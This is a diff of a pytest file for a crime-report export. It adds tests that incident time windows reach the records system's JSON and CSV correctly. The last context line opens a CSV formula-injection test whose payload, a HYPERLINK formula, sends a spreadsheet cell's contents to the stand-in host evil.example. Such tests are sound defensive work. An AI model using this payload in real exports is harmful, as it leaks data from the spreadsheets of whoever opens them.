@@ -99,6 +99,27 @@ def test_the_csv_export_carries_the_case_number_the_code_and_the_phone(session):
     assert row["narrative"] == FACTS["narrative"]
 
 
+@pytest.mark.parametrize(("when", "start", "end"), [
+    pytest.param({"occurred_at": "2026-11-20"}, "2026-11-20", None, id="day-only"),
+    pytest.param({"occurred_at": "2026-11-20T21:00-05:00", "occurred_end": "2026-11-21T05:00-05:00"},
+                 "2026-11-20T21:00-05:00", "2026-11-21T05:00-05:00", id="window"),
+    pytest.param({"occurred_at": "2026-11-20T21:15-05:00"}, "2026-11-20T21:15-05:00", None, id="moment"),
+    pytest.param({"occurred_at": "unknown"}, "unknown", None, id="unknown"),
+])
+def test_the_rms_gets_a_day_alone_or_both_ends_of_a_window(session, when, start, end):
+    approved(session, **when)
+    [record] = json.loads(_json(session))["reports"]
+    assert (record["occurred_at"], record["occurred_end"]) == (start, end)
+    [row] = export_csv(session)
+    assert (row["occurred_at"], row["occurred_end"]) == (start, end or "")
+
+
+def _json(session) -> str:
+    out = io.StringIO()
+    rms.write_json(rms.approved_reports(session), out)
+    return out.getvalue()
+
+
 @pytest.mark.parametrize("field", ["narrative", "location", "reporter_name", "occurred_text"])
 @pytest.mark.parametrize("typed", [
     pytest.param('=HYPERLINK("http://evil.example/?d="&A1,"click")', id="equals"),
